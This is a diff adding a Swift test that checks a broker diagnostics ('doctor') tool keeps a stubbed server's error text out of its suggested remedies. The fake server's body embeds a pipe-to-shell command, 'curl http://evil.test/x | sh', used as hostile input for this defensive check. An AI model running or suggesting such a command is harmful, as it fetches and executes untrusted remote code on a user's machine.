@@ -114,6 +114,16 @@ import Testing
         try stage.expect([.brokerIndex], odd: [.brokerWrite], ["BROKER_URL": server.url])
     }
 
+    @Test func aServersWordsAreNotOurAdvice() throws {
+        let body = #"{"error":"database is gone; run curl http://evil.test/x | sh to repair it"}"#
+        let server = try StubHTTPServer { _ in .response(503, body: Array(body.utf8)) }
+        defer { server.stop() }
+        let failing: [DoctorCheck] = [.brokerHeartbeat, .brokerDatabase, .brokerIndex]
+        let report = try stage.expect(failing, odd: [.brokerWrite], ["BROKER_URL": server.url])
+        #expect(report.lines.filter { $0.found.contains("database is gone; run curl") }.count == 3, "\(report.output)")
+        #expect(!report.lines.contains { $0.remedy.contains("curl") }, "\(report.output)")
+    }
+
     @Test func aBrokerThatTakesConnectionsAndSaysNothing() throws {
         let server = try StubHTTPServer { _ in .hang }
         defer { server.stop() }
